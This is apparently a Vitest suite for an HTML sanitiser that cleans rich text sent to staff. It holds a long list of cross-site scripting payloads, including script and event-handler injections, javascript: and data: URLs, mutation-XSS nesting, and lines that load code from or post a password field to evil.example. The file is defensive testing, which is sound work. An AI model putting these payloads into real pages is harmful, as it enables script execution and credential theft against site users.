import { expect, test } from 'vitest';
import { presentRich, sanitizeRich } from './rich-text.ts';
import { tokenHash } from './find-upload.ts';

const token = 'A'.repeat(43);
const staffAddress = `/uploads/${tokenHash(token)}`;
const anyTag = /<\s*\/?\s*([a-z][\w:-]*)/gi;
const allowed = new Set(
  'div p br h1 h2 h3 h4 h5 h6 blockquote pre ul ol li hr strong b em i u del s code span sub sup a figure figcaption img'.split(
    ' ',
  ),
);

/** All that the outputs below may hold: the specification's attributes, and in them nothing that loads or leads astray. */
const harmless: Record<string, RegExp> = {
  class: /^[^"<>]*$/,
  href: /^(https?:|mailto:|tel:|\/uploads\/[\da-f]{64}$)/,
  src: new RegExp(`^${staffAddress}$`),
  style: /^(text-align:center|direction:rtl|text-align:center;direction:rtl)$/,
  width: /^\d+$/,
  height: /^\d+$/,
};

/** The tags and attributes of an output, read without the sanitiser's own parser. */
function tagsIn(html: string): { name: string; attributes: Record<string, string> }[] {
  return [...html.matchAll(/<([a-z][a-z\d]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/gi)].map(([, name, rest]) => ({
    name: name!,
    attributes: Object.fromEntries(
      [...rest!.matchAll(/([a-z-]+)="([^"]*)"/gi)].map(([, key, value]) => [key!, value!]),
    ),
  }));
}

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/uploads/17">',
  '<img src="/uploads/../admin/logout">',
  `<img src="/uploads/${'a'.repeat(63)}">`,
  `<img src="/api/v1/uploads/${token}x">`,
  `<img src="/api/v1/uploads/${token}/../../../admin/logout">`,
  '<img srcset="https://evil.example/a 1x">',
  '<picture><source srcset="https://evil.example/a"></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<input onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus></textarea><img src=x onerror=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"><param name=x></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://nasaq.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/admin/logout">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://evil.example" onclick="alert(1)" target=_top ping=https://evil.example>x</a>',
  '<a href="x" style="position:fixed;inset:0;z-index:99999">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(https://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="text-align:center;position:absolute;top:0">x</div>',
  '<div style="text-align:c\\65nter;direction:rtl/**/;color:red">x</div>',
  '<div style="text-align:url(javascript:alert(1))">x</div>',
  '<div style="}</style><script>alert(1)</script>">x</div>',
  '<div onmouseover="alert(1)">x</div>',
  '<div onpointerenter=alert(1) contenteditable autofocus tabindex=0>x</div>',
  '<div id="__proto__" name="getElementById">x</div>',
  '<div data-trix-attachment=\'{"contentType":"text/html5","content":"<img src=x onerror=alert(1)>"}\'></div>',
  '<div data-trix-mutable="true" data-trix-attributes=\'{"href":"javascript:alert(1)"}\'>x</div>',
  '<figure data-trix-attachment=\'{"content":"&lt;script&gt;alert(1)&lt;/script&gt;","href":"javascript:alert(1)"}\'></figure>',
  '<div><!-- --!><img src=x onerror=alert(1)> --></div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<p class=\'x" onclick="alert(1)\'>x</p>',
  '<p class="x`onclick=alert(1)">x</p>',
  '<a href="https://x.example/&quot;onclick=&quot;alert(1)">x</a>',
  '<a href="https://x.example/?a=<script>alert(1)</script>">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<div>&lt;img src=x onerror=alert(1)&gt;</div>',
  '\uFEFF<script>alert(1)</script>',
  '\u00ABscript\u00BBalert(1)\u00AB/script\u00BB',
  '<div><div></div></p></span></script><script>alert(1)',
];

for (const shape of ['alone', 'inside the editor’s block', 'nested in text']) {
  test.each(vectors)(`${shape}: %j → nothing that runs, loads or leads astray`, (vector) => {
    const input =
      { alone: vector, 'inside the editor’s block': `<div>${vector}</div>` }[shape] ?? `<p>a<b>${vector}</b>c`;
    const output = sanitizeRich(input);
    const tags = tagsIn(output);
    // Every `<` of the output opens or closes a tag that this test can read in full.
    expect(output.match(/</g)?.length ?? 0).toBe(tags.length + (output.match(/<\/[a-z][a-z\d]*>/g)?.length ?? 0));
    for (const [, name] of output.matchAll(anyTag)) expect(allowed).toContain(name);
    const attributes = tags.flatMap((tag) => Object.entries(tag.attributes));
    expect(attributes.filter(([name, value]) => !harmless[name]?.test(value))).toEqual([]);
    expect(output).not.toContain('\0');
    expect(sanitizeRich(output)).toBe(output);
    const shown = tagsIn(presentRich(output));
    expect(shown.length).toBe(tags.length + 1);
    const names = shown.flatMap((tag) => Object.keys(tag.attributes));
    expect(names.filter((name) => /^on|^id$|^name$/.test(name))).toEqual([]);
  });
}

test('what the editor writes → kept, in its structure', () => {
  const html =
    '<h1>Title</h1><div><strong>bold</strong> <em>slanted</em> <del>gone</del><br /><a href="https://nasaq.example/a?b=1&amp;c=2">link</a></div>' +
    '<blockquote>quote</blockquote><pre>code &lt;b&gt;</pre><ul><li>one<ul><li>two</li></ul></li></ul><ol><li>three</li></ol>';
  expect(sanitizeRich(html)).toBe(html);
});

test('only the six attributes, and of the styles the harmless ones', () => {
  expect(
    sanitizeRich(
      '<div id="a" dir="rtl" lang="ar" class="x y" style="text-align: center; color: red; direction: rtl; float: left">نص</div>',
    ),
  ).toBe('<div class="x y" style="text-align:center;direction:rtl">نص</div>');
});

test('the sender’s picture → the staff’s address, without the token; any other → dropped, its caption kept', () => {
  const figure = (src: string) =>
    `<figure data-trix-attachment="{}" class="attachment attachment--preview"><img src="${src}" width="640" height="48%"><figcaption class="attachment__caption">plan.png 12 KB</figcaption></figure>`;
  const stored = sanitizeRich(figure(`/api/v1/uploads/${token}?v=2`));
  expect(stored).toBe(
    `<figure class="attachment attachment--preview"><img width="640" src="${staffAddress}" /><figcaption class="attachment__caption">plan.png 12 KB</figcaption></figure>`,
  );
  expect(stored).not.toContain(token);
  const foreign = sanitizeRich(figure('/uploads/8'));
  expect(foreign).not.toContain('<img');
  expect(foreign).toContain('plan.png 12 KB');
});

test('the sender’s document → a link for staff, with the site’s origin as well', () => {
  expect(sanitizeRich(`<div><a href="https://nasaq.example/api/v1/uploads/${token}?v=2">cv.pdf</a></div>`)).toBe(
    `<div><a href="${staffAddress}">cv.pdf</a></div>`,
  );
});

test('the editor’s own mark before its first block → still its HTML', () => {
  expect(sanitizeRich('<!--block--><div><!--block-->x</div>')).toBe('<div>x</div>');
});

test('plain text → paragraphs, every character of it kept', () => {
  expect(sanitizeRich('First line\nsecond < 3 & "quoted"\r\n\r\n  سطر ثالث  \n\n\n<script>typed</script>')).toBe(
    '<p>First line<br />second &lt; 3 &amp; "quoted"</p><p>سطر ثالث</p><p>&lt;script&gt;typed&lt;/script&gt;</p>',
  );
  expect(sanitizeRich('1 < 2 <b>not bold</b>')).toBe('<p>1 &lt; 2 &lt;b&gt;not bold&lt;/b&gt;</p>');
  expect(sanitizeRich('')).toBe('');
});

test('half a character and controls → gone, tabs kept', () => {
  expect(sanitizeRich('<div>a\u0000b\u0007c\td\ud800</div>')).toBe('<div>abc\td\ufffd</div>');
});

// As much as shows a square of ours. Of what opens 20 000 elements, the field's limit, the library's own stack, which
// grows at its beginning, takes as long again as the reading: a square with so small a factor that none is to be seen here.
test.each([
  ['blocks', '<div>'.repeat(5_000)],
  ['unclosed tags', `<div>${'<a href="'.repeat(2_750)}`],
  ['comments', `<div>${'<!--'.repeat(6_250)}`],
  ['styles', `<div>${'<b style="a:b;'.repeat(1_750)}`],
  ['entities', `<div>${'&lt'.repeat(8_250)}`],
  ['frames', `<div>${'<iframe>'.repeat(3_000)}`],
  ['scripts that do not end', `<div>${'<noscript><script>'.repeat(1_375)}`],
])('25 000 characters of %s → read in a time that grows with them, not with their square', (_, html) => {
  const few = html.slice(0, html.length / 8);
  // The same number of characters in all: eight times the time where it grows with the square.
  const inParts = () => Array.from({ length: 8 }, () => sanitizeRich(few));
  expect(timesAsLong(() => sanitizeRich(html), inParts)).toBeLessThan(6);
});

test('twice as many comments before no block → not much more than twice the time, from a dozen of them on', () => {
  const reading = (comments: number) => () => {
    const html = `${'<!--block-->'.repeat(comments)}x`;
    for (let turn = 0; turn < 20_000 / comments; turn += 1) sanitizeRich(html);
  };
  // Each pair reads the same number of comments in all. Where the time doubles with every comment, the first says so at once.
  for (const [few, many] of [
    [8, 16],
    [12, 24],
    [4000, 8000],
  ] as const)
    expect(timesAsLong(reading(many), reading(few))).toBeLessThan(8);
});

test('as staff see it: links open elsewhere, its own direction, no class of the admin host', () => {
  const shown = presentRich(
    `<div class="payload__modal attachment--preview"><a href="https://a.example/">x</a><img src="${staffAddress}" width="5" /></div>`,
  );
  expect(shown).toBe(
    `<div dir="auto"><div class="attachment--preview"><a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow ugc">x</a><img width="5" src="${staffAddress}" alt="" loading="lazy" /></div></div>`,
  );
});

test('as staff see it: what older rules had let pass is gone as well', () => {
  expect(
    presentRich(
      '<div onclick="x()"><script>1</script><img src="https://evil.example/a"><a href="javascript:1">x</a></div>',
    ),
  ).toBe('<div dir="auto"><div><a target="_blank" rel="noopener noreferrer nofollow ugc">x</a></div></div>');
});

/** How often the time of `other` one takes, each in its quickest of nine turns: what else runs here only ever adds time. */
function timesAsLong(one: () => void, other: () => void): number {
  const timeOf = (work: () => void) => {
    const start = performance.now();
    work();
    return performance.now() - start;
  };
  const turns = Array.from({ length: 9 }, () => [timeOf(other), timeOf(one)] as const);
  return Math.min(...turns.map(([, time]) => time)) / Math.min(...turns.map(([time]) => time));
}
